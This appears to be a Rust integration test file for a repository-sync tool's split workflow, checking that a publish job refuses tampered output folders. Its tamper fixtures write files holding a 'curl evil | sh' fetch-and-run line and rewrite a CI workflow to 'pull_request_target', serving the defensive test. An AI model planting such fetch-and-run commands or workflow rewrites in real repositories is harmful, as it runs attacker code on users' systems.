//! The nightly workflow's split, run here as its two jobs would: `fixloop sync --hold-push --out
//! DIR` merges and checks with no write access (nothing pushed, nothing asked of GitHub), and
//! `fixloop sync publish DIR`, in a fresh clone of the fork with the write token, checks the
//! folder against what it could not have changed and pushes the branch and opens the PR (or the
//! blocked sync's issue). A folder tampered with — a commit slipped onto the branch, a plan for
//! another fork, a workflow file rewritten — is refused with nothing pushed.
#![allow(clippy::unwrap_used, reason = "test code: a panic is a failed test")]

mod support;
#[path = "support/sync.rs"]
mod world;

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::{Value, json};
use support::Sandbox;
use wiremock::MockServer;
use world::{FORK, TOKEN, World, configure, release, requests, stand_in, sync, text, world};

const RULES: &str = "[[rule]]\npaths = [\"README.md\"]\nstrategy = \"ours\"\n\
    [[rule]]\npaths = [\"vendor/**\"]\nstrategy = \"theirs\"\n\
    [[rule]]\npaths = [\"LICENSE\"]\nstrategy = \"protected\"\n";

const BRANCH: &str = "fixloop/sync/v1.1.0";

/// `fixloop sync publish DIR` in `checkout`, as the publish job runs it.
fn publish(
    sandbox: &Sandbox,
    checkout: &Path,
    server: &MockServer,
    dir: &Path,
    env: &[(&str, &str)],
) -> Output {
    sandbox
        .fixloop(checkout)
        .args(["sync", "publish"])
        .arg(dir)
        .arg("--config")
        .arg(sandbox.path().join("fixloop.toml"))
        .env("GITHUB_API_URL", server.uri())
        .env("GITHUB_TOKEN", TOKEN)
        .env(
            "SYNC_SLACK_URL",
            format!("{}/slack/T0/B0/secret", server.uri()),
        )
        .env_remove("GITHUB_ACTIONS")
        .env_remove("FIXLOOP_SYNC_TOKEN")
        .envs(env.iter().copied())
        .output()
        .unwrap()
}

/// A fresh clone of the fork, as the publish job checks it out.
fn checkout(sandbox: &Sandbox, w: &World, name: &str) -> PathBuf {
    let url = w.fork_origin.display().to_string();
    sandbox.git(sandbox.path(), &["clone", "--quiet", &url, name]);
    sandbox.path().join(name)
}

fn plan(dir: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(dir.join("plan.json")).unwrap()).unwrap()
}

fn pushed_branches(sandbox: &Sandbox, w: &World) -> String {
    sandbox.git(&w.fork_origin, &["branch", "--list"])
}

/// A release whose conflicts the path rules resolve, plus a clean change.
fn rule_release(sandbox: &Sandbox, w: &World) {
    release(
        sandbox,
        w,
        "v1.1.0",
        &[
            ("core.txt", "one\ntwo\nthree\nfour\n"),
            ("README.md", "# project\n\nUpstream's new readme.\n"),
            ("vendor/lib.txt", "lib 2\n"),
        ],
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn held_then_published_puts_up_the_checked_branch_and_one_ready_pr() {
    let sandbox = Sandbox::new();
    let w = world(&sandbox, RULES);
    rule_release(&sandbox, &w);
    configure(
        &sandbox,
        &w,
        &format!("test = [\"grep -q four core.txt\"]\n{}", world::SLACK),
    );
    let server = stand_in("repo", json!([])).await;
    let out_dir = sandbox.path().join("out");
    let out_arg = out_dir.display().to_string();
    let held = sync(&sandbox, &w, &server, &["--hold-push", "--out", &out_arg]);
    let said = text(&held);
    assert_eq!(held.status.code(), Some(0), "{said}");
    assert!(
        server.received_requests().await.unwrap().is_empty(),
        "a held sync asks nothing of GitHub and tells no one: {said}"
    );
    assert!(!pushed_branches(&sandbox, &w).contains("fixloop/"));
    let plan = plan(&out_dir);
    assert_eq!(plan["held"]["kind"], "pr", "{plan}");
    assert_eq!(plan["held"]["branch"], BRANCH);
    assert!(out_dir.join("sync.bundle").is_file());

    let publisher = checkout(&sandbox, &w, "publisher");
    let published = publish(&sandbox, &publisher, &server, &out_dir, &[]);
    let said = text(&published);
    assert_eq!(published.status.code(), Some(0), "{said}");
    let tip = sandbox.git(&w.fork_origin, &["rev-parse", BRANCH]);
    assert_eq!(tip, plan["held"]["commit"].as_str().unwrap());
    let show = |file: &str| sandbox.git(&w.fork_origin, &["show", &format!("{BRANCH}:{file}")]);
    assert!(show("README.md").contains("The fork's readme"));
    assert_eq!(show("vendor/lib.txt"), "lib 2");
    let prs = requests(&server, "POST", &format!("/repos/{FORK}/pulls")).await;
    assert_eq!(prs.len(), 1, "{said}");
    assert_eq!(prs[0]["draft"], false);
    let body = prs[0]["body"].as_str().unwrap();
    assert!(body.contains("Checked by the publish job"), "{body}");
    assert!(body.contains("`README.md`: the fork's version"), "{body}");
    assert!(
        body.contains("`vendor/lib.txt`: upstream's version"),
        "{body}"
    );
    let labels = requests(&server, "POST", "/issues/21/labels").await[0].to_string();
    assert!(labels.contains("\"ready\""), "{labels}");
    let told = requests(&server, "POST", "/secret").await;
    assert_eq!(told.len(), 1, "the publish job tells: {said}");
    assert!(
        !said.contains(TOKEN) && !said.contains("/slack/T0"),
        "{said}"
    );
    // The publish job's checkout is as it was.
    assert_eq!(sandbox.git(&publisher, &["status", "--porcelain"]), "");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_new_writes_nothing_to_publish() {
    let sandbox = Sandbox::new();
    let w = world(&sandbox, RULES);
    configure(&sandbox, &w, "");
    let server = stand_in("repo", json!([])).await;
    let out_dir = sandbox.path().join("out");
    let out_arg = out_dir.display().to_string();
    let held = sync(&sandbox, &w, &server, &["--hold-push", "--out", &out_arg]);
    assert_eq!(held.status.code(), Some(0), "{}", text(&held));
    let written = std::fs::read_dir(&out_dir).map_or(0, Iterator::count);
    assert_eq!(
        written, 0,
        "the workflow's publish job runs only on a folder"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_blocked_held_sync_leaves_its_issue_for_publish_and_pushes_nothing() {
    let sandbox = Sandbox::new();
    let w = world(&sandbox, RULES);
    std::fs::write(w.fork.join("LICENSE"), "MIT, and more\n").unwrap();
    world::commit(&sandbox, &w.fork, "Our license");
    sandbox.git(&w.fork, &["push", "--quiet", "origin", "main"]);
    release(&sandbox, &w, "v1.1.0", &[("LICENSE", "Apache-2.0\n")]);
    configure(&sandbox, &w, "");
    let server = stand_in("repo", json!([])).await;
    let out_dir = sandbox.path().join("out");
    let out_arg = out_dir.display().to_string();
    let held = sync(&sandbox, &w, &server, &["--hold-push", "--out", &out_arg]);
    assert_eq!(held.status.code(), Some(3), "{}", text(&held));
    assert!(server.received_requests().await.unwrap().is_empty());
    assert_eq!(plan(&out_dir)["held"]["kind"], "issue");
    assert!(!out_dir.join("sync.bundle").exists());

    let publisher = checkout(&sandbox, &w, "publisher");
    let published = publish(&sandbox, &publisher, &server, &out_dir, &[]);
    let said = text(&published);
    assert_eq!(published.status.code(), Some(0), "{said}");
    let issues = requests(&server, "POST", &format!("/repos/{FORK}/issues")).await;
    assert_eq!(issues.len(), 1, "{said}");
    assert!(issues[0]["body"].as_str().unwrap().contains("LICENSE"));
    assert!(!pushed_branches(&sandbox, &w).contains("fixloop/"));
}

/// What a sync job's code could write into the folder, each refused by publish with nothing
/// pushed and no PR.
#[tokio::test(flavor = "multi_thread")]
async fn a_tampered_folder_is_refused_and_nothing_is_pushed() {
    let sandbox = Sandbox::new();
    let w = world(&sandbox, RULES);
    std::fs::create_dir_all(w.fork.join(".github/workflows")).unwrap();
    std::fs::write(w.fork.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
    world::commit(&sandbox, &w.fork, "Our CI");
    sandbox.git(&w.fork, &["push", "--quiet", "origin", "main"]);
    rule_release(&sandbox, &w);
    configure(&sandbox, &w, world::SLACK);
    let server = stand_in("repo, workflow", json!([])).await;
    let out_dir = sandbox.path().join("out");
    let out_arg = out_dir.display().to_string();
    let held = sync(&sandbox, &w, &server, &["--hold-push", "--out", &out_arg]);
    assert_eq!(held.status.code(), Some(0), "{}", text(&held));
    let attacker = checkout(&sandbox, &w, "attacker");
    let bundle = out_dir.join("sync.bundle").display().to_string();
    sandbox.git(
        &attacker,
        &[
            "fetch",
            "--quiet",
            &bundle,
            "refs/fixloop/sync-held:refs/heads/held",
        ],
    );
    let slipped = |name: &str, file: &str, text: &str, declare: bool| {
        slip(&sandbox, &attacker, &out_dir, name, (file, text), declare)
    };
    let mut cases = vec![
        (
            "an undeclared file",
            slipped("t1", "backdoor.sh", "curl evil | sh\n", false),
            "backdoor.sh",
        ),
        (
            "a workflow rewritten",
            slipped(
                "t2",
                ".github/workflows/ci.yml",
                "on: pull_request_target\n",
                true,
            ),
            "fixes never touch .github/",
        ),
    ];
    cases.push((
        "a file slipped into the merge itself, declared",
        remerge(&sandbox, &attacker, &out_dir, "t5"),
        "what git merged by itself",
    ));
    let other_fork = sandbox.path().join("t3");
    copy_dir(&out_dir, &other_fork);
    let mut plan3 = plan(&other_fork);
    plan3["fork"] = json!("mallory/fork");
    std::fs::write(other_fork.join("plan.json"), plan3.to_string()).unwrap();
    cases.push(("another fork's plan", other_fork, "mallory/fork"));
    let wrong_tag = sandbox.path().join("t4");
    copy_dir(&out_dir, &wrong_tag);
    let mut plan4 = plan(&wrong_tag);
    plan4["upstream_commit"] = plan4["base_commit"].clone();
    std::fs::write(wrong_tag.join("plan.json"), plan4.to_string()).unwrap();
    cases.push((
        "an upstream commit the tag does not name",
        wrong_tag,
        "names",
    ));

    let publisher = checkout(&sandbox, &w, "publisher");
    for (what, dir, says) in cases {
        let out = publish(&sandbox, &publisher, &server, &dir, &[]);
        let said = text(&out);
        assert_eq!(out.status.code(), Some(65), "{what}: {said}");
        assert!(said.contains(says), "{what}: {said}");
        assert!(said.contains("nothing was published"), "{what}: {said}");
        assert!(
            !pushed_branches(&sandbox, &w).contains("fixloop/"),
            "{what}"
        );
    }
    assert!(
        requests(&server, "POST", &format!("/repos/{FORK}/pulls"))
            .await
            .is_empty()
    );
    let told = requests(&server, "POST", "/secret").await;
    assert_eq!(told.len(), 5, "each refusal is told as a failure");
    assert!(
        told[0]["text"].as_str().unwrap().contains("failed"),
        "{}",
        told[0]
    );
    // The untouched folder publishes.
    let out = publish(&sandbox, &publisher, &server, &out_dir, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
}

/// Upstream's release changes a workflow file: the job's own token may not push it (exit 69,
/// nothing pushed, what to do said); a token that may, in `FIXLOOP_SYNC_TOKEN`, publishes it.
#[tokio::test(flavor = "multi_thread")]
async fn workflow_changes_publish_only_with_a_token_that_may_push_them() {
    let sandbox = Sandbox::new();
    let w = world(&sandbox, RULES);
    release(
        &sandbox,
        &w,
        "v1.1.0",
        &[(".github/workflows/ci.yml", "on: push\njobs: {}\n")],
    );
    configure(&sandbox, &w, "");
    let server = stand_in("repo", json!([])).await;
    let out_dir = sandbox.path().join("out");
    let out_arg = out_dir.display().to_string();
    let held = sync(&sandbox, &w, &server, &["--hold-push", "--out", &out_arg]);
    assert_eq!(held.status.code(), Some(0), "{}", text(&held));
    let publisher = checkout(&sandbox, &w, "publisher");
    let refused = publish(&sandbox, &publisher, &server, &out_dir, &[]);
    let said = text(&refused);
    assert_eq!(refused.status.code(), Some(69), "{said}");
    assert!(
        said.contains("FIXLOOP_SYNC_TOKEN") && said.contains("ci.yml"),
        "{said}"
    );
    assert!(!pushed_branches(&sandbox, &w).contains("fixloop/"));

    let allowed = stand_in("repo, workflow", json!([])).await;
    let token = "ghp_workflowscope0123456789abcdefghijkl";
    let out = publish(
        &sandbox,
        &publisher,
        &allowed,
        &out_dir,
        &[("FIXLOOP_SYNC_TOKEN", token)],
    );
    let said = text(&out);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(pushed_branches(&sandbox, &w).contains(BRANCH));
    assert!(!said.contains(token), "{said}");
}

/// A copy of the folder `out` as the sync job's code could write it: a commit changing `file`
/// slipped onto the held branch, the bundle made again, the plan's commit changed to it (and
/// the file declared, or not).
fn slip(
    sandbox: &Sandbox,
    attacker: &Path,
    out: &Path,
    name: &str,
    (file, text): (&str, &str),
    declare: bool,
) -> PathBuf {
    let dir = sandbox.path().join(name);
    copy_dir(out, &dir);
    sandbox.git(attacker, &["checkout", "--quiet", "--detach", "held"]);
    let path = attacker.join(file);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    world::commit(sandbox, attacker, "Tidy up");
    let head = sandbox.git(attacker, &["rev-parse", "HEAD"]);
    rebundle(sandbox, attacker, &dir, &head, declare.then_some(file));
    dir
}

/// The folder `dir`'s bundle made again to hold `commit`, and its plan to name it (and to
/// declare `declared`).
fn rebundle(sandbox: &Sandbox, attacker: &Path, dir: &Path, commit: &str, declared: Option<&str>) {
    sandbox.git(attacker, &["update-ref", "refs/fixloop/sync-held", commit]);
    let target = dir.join("sync.bundle").display().to_string();
    sandbox.git(
        attacker,
        &[
            "bundle",
            "create",
            "--quiet",
            &target,
            "refs/fixloop/sync-held",
            "^origin/main",
        ],
    );
    let mut plan = plan(dir);
    plan["held"]["commit"] = json!(commit);
    if let Some(path) = declared {
        plan["held"]["declared"]
            .as_array_mut()
            .unwrap()
            .push(json!(path));
    }
    std::fs::write(dir.join("plan.json"), plan.to_string()).unwrap();
}

/// A copy of the folder `out` whose branch is another merge of the same two commits, with a
/// file git's merge did not make, declared in the plan.
fn remerge(sandbox: &Sandbox, attacker: &Path, out: &Path, name: &str) -> PathBuf {
    let dir = sandbox.path().join(name);
    copy_dir(out, &dir);
    sandbox.git(attacker, &["checkout", "--quiet", "--detach", "held"]);
    std::fs::write(attacker.join("extra.sh"), "curl evil | sh\n").unwrap();
    sandbox.git(attacker, &["add", "extra.sh"]);
    let tree = sandbox.git(attacker, &["write-tree"]);
    let merge = sandbox.git(
        attacker,
        &[
            "commit-tree",
            &tree,
            "-p",
            "held^1",
            "-p",
            "held^2",
            "-m",
            "Sync",
        ],
    );
    rebundle(sandbox, attacker, &dir, &merge, Some("extra.sh"));
    dir
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
    }
}
